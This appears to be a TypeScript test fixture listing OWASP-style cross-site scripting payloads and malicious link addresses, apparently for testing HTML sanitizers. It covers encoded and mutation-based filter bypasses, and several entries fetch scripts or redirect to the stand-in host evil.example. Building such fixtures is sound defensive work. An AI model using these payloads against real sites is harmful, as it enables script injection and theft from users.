/** The script that each string tries to run. */
const JS = 'window.__xss=1';
const codes = Array.from(JS, (character) => character.charCodeAt(0));
const HEX = codes.map((code) => `&#x${code.toString(16)};`).join('');
const DECIMAL = codes.map((code) => `&#${String(code)}`).join('');
const CODES = codes.join(',');

/**
 * Strings in the manner of OWASP's list for bypassing filters: markup, handlers, addresses, encodings,
 * mutations.
 */
export const XSS: readonly string[] = [
  `<script>${JS}</script>`,
  `<SCRIPT SRC=https://evil.example/xss.js></SCRIPT>`,
  `<ScRiPt>${JS}</sCrIpT>`,
  `<scr<script>ipt>${JS}</scr</script>ipt>`,
  `<script/src="https://evil.example/x.js"></script>`,
  `<script\n>${JS}</script>`,
  `<script>${JS}//`,
  `"><script>${JS}</script>`,
  `'><script>${JS}</script>`,
  `</script><script>${JS}</script>`,
  `</title><script>${JS}</script>`,
  `</textarea><script>${JS}</script>`,
  `--><script>${JS}</script><!--`,
  `]]><script>${JS}</script>`,
  `<img src=x onerror=${JS}>`,
  `<img src=x onerror="${JS}"`,
  `<IMG """><SCRIPT>${JS}</SCRIPT>"\\>`,
  `<IMG SRC="javascript:${JS};">`,
  `<IMG SRC=JaVaScRiPt:${JS}>`,
  `<IMG SRC=javascript:${HEX}>`,
  `<IMG onmouseover="${JS}" src=x>`,
  `<img src=x onerror=${HEX}>`,
  `<img src=x onerror="${DECIMAL}">`,
  `<img src=x onerror="eval(String.fromCharCode(${CODES}))">`,
  `<img/src='x'/onerror=${JS}>`,
  `<img src=\`x\`onerror=${JS}>`,
  `<img \0src=x onerror=${JS}>`,
  `<img src=x:x onerror\u0009=\u000a${JS}>`,
  `<IMG DYNSRC="javascript:${JS}" LOWSRC="javascript:${JS}">`,
  `<svg onload=${JS}>`,
  `<svg/onload=${JS}>`,
  `<svg><script>${JS}</script></svg>`,
  `<svg><script href="data:text/javascript,${JS}"></script></svg>`,
  `<svg><animate onbegin=${JS} attributeName=x dur=1s>`,
  `<svg><a xlink:href="javascript:${JS}"><text x=20 y=20>x</text></a></svg>`,
  `<svg><set attributeName=onmouseover to=${JS}>`,
  `<svg><foreignObject><iframe srcdoc="<script>parent.${JS}</script>"></iframe></foreignObject></svg>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${JS}&gt;">`,
  `<math href="javascript:${JS}">x</math>`,
  `<svg></p><style><a id="</style><img src=1 onerror=${JS}>">`,
  `<noscript><p title="</noscript><img src=x onerror=${JS}>">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${JS}>`,
  `<body onload=${JS}>`,
  `<BODY BACKGROUND="javascript:${JS}">`,
  `<iframe src="javascript:parent.${JS}"></iframe>`,
  `<iframe srcdoc="<script>parent.${JS}</script>"></iframe>`,
  `<iframe src="https://evil.example/"></iframe>`,
  `<object data="javascript:${JS}"></object>`,
  `<EMBED SRC="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9cGFyZW50Ll9feHNzPTE+" type="image/svg+xml">`,
  `<link rel=stylesheet href="javascript:${JS}">`,
  `<LINK REL="stylesheet" HREF="https://evil.example/xss.css">`,
  `<meta http-equiv="refresh" content="0;url=https://evil.example/">`,
  `<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html,<script>${JS}</script>">`,
  `<base href="https://evil.example/">`,
  `<style>@import'https://evil.example/xss.css';</style>`,
  `<style>*{background:url("javascript:${JS}")}</style>`,
  `<div style="background:url(javascript:${JS});width:expression(${JS})">x</div>`,
  `<XSS STYLE="behavior: url(xss.htc);">`,
  `<input autofocus onfocus=${JS}>`,
  `<select autofocus onfocus=${JS}>`,
  `<details open ontoggle=${JS}>`,
  `<video><source onerror=${JS}></video>`,
  `<audio src=x onerror=${JS}>`,
  `<marquee onstart=${JS}>x</marquee>`,
  `<a href="javascript:${JS}">x</a>`,
  `<a href="jav&#x09;ascript:${JS}">x</a>`,
  `<a href=" &#14;  javascript:${JS}">x</a>`,
  `<a href="data:text/html,<script>opener.${JS}</script>" target=_blank>x</a>`,
  `<form action="javascript:${JS}"><button>x</button></form>`,
  `<button formaction="javascript:${JS}" form=f>x</button>`,
  `<TABLE BACKGROUND="javascript:${JS}">`,
  `<template><script>${JS}</script></template>`,
  `<x onclick=${JS} tabindex=1 autofocus onfocus=${JS}>x`,
  `javascript:${JS}`,
  `" onmouseover="${JS}" x="`,
  `' autofocus onfocus='${JS}`,
  `\\"-${JS}-\\"`,
  `\${${JS}}`,
  `{{constructor.constructor('${JS}')()}}`,
  `<%= ${JS} %>`,
  `\u00bcscript\u00be${JS}\u00bc/script\u00be`,
  `+ADw-script+AD4-${JS}+ADw-/script+AD4-`,
  `%3Cscript%3E${JS}%3C/script%3E`,
  `&lt;script&gt;${JS}&lt;/script&gt;`,
  `\u2028<script>${JS}</script>`,
];

/** Addresses that would run as a script in a link or picture. */
export const XSS_ADDRESSES: readonly string[] = [
  `javascript:${JS}`,
  `JaVaScRiPt:${JS}`,
  ` javascript:${JS}`,
  `java\tscript:${JS}`,
  `\u0001javascript:${JS}`,
  `javascript://https://example.org/%0a${JS}`,
  `data:text/html,<script>opener.${JS}</script>`,
  `vbscript:${JS}`,
  `https://example.org/" onmouseover="${JS}`,
  `//evil.example/`,
  `https://www.youtube.com@evil.example/watch?v=dQw4w9WgXcQ`,
];

/** The strings joined into as few texts as possible of at most this length; longer strings are left out. */
export function packedStrings(most: number): string[] {
  const packs: string[] = [];
  for (const text of XSS.filter(({ length }) => length <= most)) {
    const last = packs.at(-1);
    if (last !== undefined && last.length + text.length < most) packs[packs.length - 1] = `${last} ${text}`;
    else packs.push(text);
  }
  return packs;
}
